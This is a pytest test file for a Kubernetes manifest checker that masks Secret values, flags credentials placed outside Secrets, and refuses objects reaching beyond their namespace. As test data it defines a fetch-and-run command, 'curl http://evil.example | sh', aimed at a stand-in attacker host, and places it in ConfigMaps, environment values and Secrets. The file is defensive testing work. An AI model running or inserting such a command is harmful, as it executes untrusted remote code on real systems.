"""Objects of a cluster as people read them: nothing but values of Secrets is hidden, and nothing reaches beyond the namespace."""

from __future__ import annotations

from typing import Any

import pytest
import yaml

from gpu_workers.clusters.objects import body_in, changes_of, unfit
from gpu_workers.clusters.shown import text_of
from gpu_workers.tests.plan_ground import HIDDEN
from gpu_workers.tests.test_plans import SECRET

pytestmark = pytest.mark.unit
NETWORK = "networking.k8s.io/v1"
RBAC = "rbac.authorization.k8s.io/v1"
TOKEN = "7dK2mQ9vB4nX8cL1pT6w"
EVIL = "curl http://evil.example | sh"


def an(kind: str, version: str = "v1", **parts: Any) -> dict[str, Any]:
    return {"apiVersion": version, "kind": kind, "metadata": {"name": "it"}, **parts}


def pod(**parts: Any) -> dict[str, Any]:
    return an("Pod", spec={"containers": [{"name": "it", "image": "shop/it:1", **parts}]})


def noted(name: str, value: str) -> dict[str, Any]:
    body = an("Ingress", NETWORK)
    return body | {"metadata": {"name": "it", "annotations": {name: value}}}


def tls(name: str) -> dict[str, Any]:
    return an("Ingress", NETWORK, spec={"tls": [{"secretName": name}]})


def faults(body: dict[str, Any]) -> str:
    return "; ".join(unfit(changes_of([body], [], "shop"), "shop"))


@pytest.mark.parametrize(
    "body",
    [
        an("ConfigMap", data={"token-setup.sh": f"#!/bin/sh\n{EVIL}\n", "credentials.sh": EVIL}),
        pod(env=[{"name": "PASSWORD_CMD", "value": EVIL}, {"name": "SECRET_HOOK", "value": "reboot"}]),
        an("Secret", "evil.example/v1", data={"key": EVIL}),
        an("Secret", data=[EVIL], stringData=EVIL),
        an("ConfigMap") | {"metadata": {"name": "it", "annotations": {"kubectl.kubernetes.io/last-applied-configuration": EVIL}}},
    ],
)  # fmt: skip
def test_what_is_applied_is_read_whatever_it_is_called(body: dict[str, Any]) -> None:
    (change,) = changes_of([body], [], "shop")
    text, left_out = text_of(change.body)
    assert (EVIL in text, left_out, body_in(text) == change.body) == (True, False, True)
    assert not faults(body) or body["kind"] == "Secret", "and what is called a Secret and is none is refused"


def test_values_of_a_secret_are_told_by_length_and_hash() -> None:
    body = yaml.safe_load(SECRET)
    text, left_out = text_of(body)
    assert (left_out, HIDDEN in text, faults(body)) == (True, False, "")
    assert body_in(text)["stringData"] == {"key": "<23 characters, SHA-256 ae71c4cd>"}


@pytest.mark.parametrize(
    ("body", "where"),
    [
        (an("ConfigMap", data={"api_token": HIDDEN}), "data.api_token, line 7 of the object"),
        (pod(env=[{"name": "DB_PASSWORD", "value": HIDDEN}]), "spec.containers[0].env[0].value, line 12 of the object"),
        (pod(env=[{"name": "API_KEY_FILE", "value": TOKEN}]), "spec.containers[0].env[0].value, line 12 of the object"),
        (pod(args=["--quiet", f"--password={HIDDEN}"]), "spec.containers[0].args[1], line 12 of the object"),
        (an("ConfigMap", data={"run.sh": f"{EVIL}\nexport PASSWORD={HIDDEN}\n"}), "data.run.sh, line 2 (PASSWORD)"),
        (an("ConfigMap", data={"a.yaml": f"user: x\npassword: |\n  {TOKEN}\n"}), "data.a.yaml, line 3 (password)"),
        (an("ConfigMap", data={"a.yaml": f"kind: Secret\ndata:\n  key: {TOKEN}\n"}), "data.a.yaml, line 3 (key)"),
        (tls(TOKEN), "spec.tls[0].secretName, line 8 of the object"),
        (tls("9f86d081884c7d65"), "spec.tls[0].secretName, line 8 of the object"),
        (an("ConfigMap", data={f"ghp_{TOKEN}0": "x"}), "data.[redacted], line 7 of the object"),
    ],
)
def test_a_secret_outside_of_secrets_is_not_applied(body: dict[str, Any], where: str) -> None:
    said = faults(body)
    assert f"reads like a secret in {where}: put it into a Secret" in said
    assert (HIDDEN in said, TOKEN in said, "9f86d081" in said) == (False, False, False)


@pytest.mark.parametrize("name", ["tls-cert", "wildcard-example-org-2024", "keys-7b9t5g6hkc"])
def test_what_names_a_secret_is_none(name: str) -> None:
    assert faults(tls(name)) == ""
    assert faults(pod(env=[{"name": "PGPASSWORD_FILE", "value": f"/run/secrets/{name}"}])) == ""


@pytest.mark.parametrize(
    ("body", "said"),
    [
        (an("Service", spec={"externalIPs": ["10.0.0.1"]}), "takes the traffic of addresses"),
        (an("Service", spec={"type": "ExternalName", "externalName": "api.kube-system.svc.cluster.local"}), "'kube-system'"),
        (an("Endpoints", subsets=[]), "names by itself the addresses"),
        (an("EndpointSlice", "discovery.k8s.io/v1", endpoints=[]), "names by itself the addresses"),
        (pod(ports=[{"containerPort": 80, "hostPort": 80}]), "takes a port of the host"),
        (an("Pod", spec={"nodeName": "control-plane"}), "names the node"),
        (an("Service", spec={"type": "ExternalName", "externalName": "10-0-0-7.till.pod.cluster.local"}), "'till'"),
        (an("Pod", spec={"volumes": [{"name": "a", "nfs": {"path": "/"}}]}), "mounts what it names itself (nfs)"),
        (pod(securityContext={"seccompProfile": {"type": "Unconfined"}}), "goes without the node's seccomp"),
        (pod(securityContext={"seLinuxOptions": {"type": "spc_t"}}), "takes another label of SELinux"),
        (an("Pod", spec={"securityContext": {"sysctls": [{"name": "kernel.core_pattern"}]}}), "sets kernel.core_pattern"),
        (an("Pod", spec={"priorityClassName": "system-node-critical"}), "goes before the cluster's own pods"),
        (noted("nginx.ingress.kubernetes.io/configuration-snippet", "return 200;"), "writes the settings of a program"),
        (noted("replicator.v1.mittwald.de/replicate-from", "till/keys"), "has itself copied between namespaces"),
        (noted("reflector.v1.k8s.emberstack.com/reflection-auto-enabled", "true"), "has itself copied"),
        (noted("nginx.ingress.kubernetes.io/auth-tls-secret", "till/ca"), "names the namespace 'till'"),
        (noted("example.org/watch-namespaces", "shop, till"), "names the namespace 'till'"),
        (an("HelmRelease", "helm.toolkit.fluxcd.io/v2", spec={"targetNamespace": "till"}), "names the namespace 'till'"),
        (an("Application", "argoproj.io/v1alpha1", spec={"destination": {"namespace": "till"}}), "names the namespace 'till'"),
        (an("Odd", "x/v1", spec={"on": [{"watchNamespaces": ["shop", "till"]}]}), "names the namespace 'till'"),
        (an("RoleBinding", subjects=[{"kind": "Group", "name": "system:unauthenticated"}]), "gives rights to system:unauth"),
        (an("RoleBinding", subjects=[{"kind": "Group", "name": "system:serviceaccounts:till"}]), "gives rights to system:serv"),
        (an("RoleBinding", subjects=[{"kind": "ServiceAccount", "name": "a", "namespace": "till"}]), "'till'"),
        (pod(securityContext={"capabilities": {"add": ["NET_RAW"]}}), "may NET_RAW"),
        (pod(securityContext={"capabilities": {"add": ["CAP_SYS_TIME"]}}), "may CAP_SYS_TIME"),
    ],
)  # fmt: skip
def test_what_reaches_beyond_the_namespace_is_not_applied(body: dict[str, Any], said: str) -> None:
    found = faults(body)
    assert said in found
    assert "which reaches beyond the namespace" in found


@pytest.mark.parametrize(
    "body",
    [
        pod(securityContext={"capabilities": {"drop": ["ALL"], "add": ["NET_BIND_SERVICE", "CAP_CHOWN"]}}),
        an("ConfigMap", data={"namespace": "till", "hostPath": "/x"}),
        noted("nginx.ingress.kubernetes.io/auth-tls-secret", "shop/ca"),
        noted("argocd.argoproj.io/sync-wave", "1"),
        an("Deployment", "apps/v1", spec={"template": {"metadata": {"creationTimestamp": None}}}, status={}),
        an("Pod", spec={"volumes": [{"name": "a", "emptyDir": {}}, {"name": "b", "projected": {"sources": []}}]}),
        an("Service", spec={"selector": {"namespace": "till"}, "externalName": "db.shop.svc.cluster.local"}),
        an("Service", spec={"type": "ExternalName", "externalName": "db.example.org"}),
        an("RoleBinding", RBAC, subjects=[{"kind": "ServiceAccount", "name": "a", "namespace": "shop"}]),
        an("NetworkPolicy", NETWORK, spec={"ingress": [{"from": [{"podSelector": {"matchLabels": {"namespace": "till"}}}]}]}),
    ],
)  # fmt: skip
def test_what_stays_in_the_namespace_is_fit(body: dict[str, Any]) -> None:
    assert faults(body) == ""


@pytest.mark.parametrize(
    ("version", "kind"),
    [
        ("argoproj.io/v1alpha1", "Application"), ("argoproj.io/v1alpha1", "Workflow"), ("apps.example/v1", "Deployment"),
        ("helm.toolkit.fluxcd.io/v2", "HelmRelease"), ("kustomize.toolkit.fluxcd.io/v1", "Kustomization"),
        ("source.toolkit.fluxcd.io/v1", "GitRepository"), ("tekton.dev/v1", "PipelineRun"), ("v1", "Event"),
        ("cert-manager.io/v1", "Certificate"), ("s3.aws.crossplane.io/v1", "Bucket"), ("v1", "ConfigMapList"),
        ("rbac.authorization.k8s.io/v1", "ClusterRole"), ("v1", "ReplicationController"), ("apps/v1", "deployment"),
    ],
)  # fmt: skip
def test_an_order_to_another_program_is_applied_or_deleted_only_where_its_kind_is_listed(
    version: str, kind: str
) -> None:
    named = f"{kind}.{version.partition('/')[0]}" if "/" in version else kind
    for after, before in ([an(kind, version)], []), ([], [an(kind, version)]):
        changes = changes_of(after, before, "shop")
        (said,) = unfit(changes, "shop")
        assert f"is of the kind {named!r}, which may reach beyond the namespace" in said
        assert unfit(changes, "shop", [named]) == []
        assert unfit(changes, "shop", [kind, f"{kind}.example.org"] if "/" in version else []) == [said]
    assert "shares the host's network" in "; ".join(
        unfit(changes_of([an(kind, version, spec={"hostNetwork": True})], [], "shop"), "shop", [named])
    )


RUN_AS = {"serviceAccountName": "deployer"}
TEMPLATE = {"template": {"metadata": {"labels": {"a": "b"}}, "spec": RUN_AS}}
TOKEN_OF: dict[str, Any] = {
    "metadata": {"name": "it", "annotations": {"kubernetes.io/service-account.name": "deployer"}}
}
RUNS, WRITES = "runs as", "has the cluster write down a token of"


@pytest.mark.parametrize(
    ("body", "does"),
    [
        (an("Pod", spec=RUN_AS), RUNS),
        (an("Pod", spec={"serviceAccount": "deployer"}), RUNS),
        (an("Pod", spec={"serviceAccountName": "default", "serviceAccount": "deployer"}), RUNS),
        *((an(kind, "apps/v1", spec=TEMPLATE), RUNS) for kind in ("DaemonSet", "Deployment", "ReplicaSet", "StatefulSet")),
        (an("Job", "batch/v1", spec=TEMPLATE), RUNS),
        (an("CronJob", "batch/v1", spec={"jobTemplate": {"spec": TEMPLATE}}), RUNS),
        (an("Rollout", "x/v1", spec=TEMPLATE), RUNS),
        (an("Rollout", "x/v1", spec={"auth": [{"serviceAccountRef": {"name": "deployer"}}]}), RUNS),
        (an("Rollout", "x/v1", spec={"serviceAccounts": ["default", "deployer"]}), RUNS),
        (an("Secret", type="kubernetes.io/service-account-token", **TOKEN_OF), WRITES),
        (an("Secret", **TOKEN_OF), WRITES),
    ],
)  # fmt: skip
def test_nothing_acts_as_an_account_that_no_admin_listed(body: dict[str, Any], does: str) -> None:
    changes = changes_of([body], [], "shop")
    (said,) = unfit(changes, "shop", ["Rollout.x"], ["builder"])
    choice = "(accepted: default, builder; an admin can list others with the cluster)"
    assert said == f"{changes[0].place} {does} the service account 'deployer' {choice}"
    assert unfit(changes, "shop", ["Rollout.x"], ["builder", "deployer"]) == []
    assert unfit(changes_of([], [body], "shop"), "shop", ["Rollout.x"]) == [], "what goes runs as nobody"


@pytest.mark.parametrize(
    "body",
    [
        an("Pod", spec={"serviceAccountName": "default", "serviceAccount": ""}),
        an(
            "Pod", spec={"volumes": [{"name": "a", "projected": {"sources": [{"serviceAccountToken": {"path": "t"}}]}}]}
        ),
        an("ConfigMap", data=RUN_AS),
        an("ServiceAccount"),
        an("Service", spec={"selector": RUN_AS}),
    ],
)
def test_default_and_what_only_reads_like_an_account_are_fit(body: dict[str, Any]) -> None:
    assert faults(body) == ""


@pytest.mark.parametrize(
    ("meta", "said"),
    [
        ({"finalizers": ["example.org/keep"]}, "sets metadata.finalizers"),
        ({"ownerReferences": [{"kind": "Node", "name": "a", "uid": "b"}]}, "sets metadata.ownerReferences"),
        ({"generateName": "it-"}, "sets metadata.generateName"),
        ({"managedFields": []}, "sets metadata.managedFields"),
        ({"uid": "x"}, "sets metadata.uid"),
        ({"creationTimestamp": None}, ""),
    ],
)
def test_what_is_the_clusters_to_write_no_plan_says(meta: dict[str, Any], said: str) -> None:
    body = an("ConfigMap") | {"metadata": {"name": "it", **meta}}
    assert faults(body).partition(", ")[0].removeprefix("ConfigMap/it ") == said
    assert "has a status" in faults(an("Service", status={"loadBalancer": {"ingress": [{"ip": "10.0.0.1"}]}}))
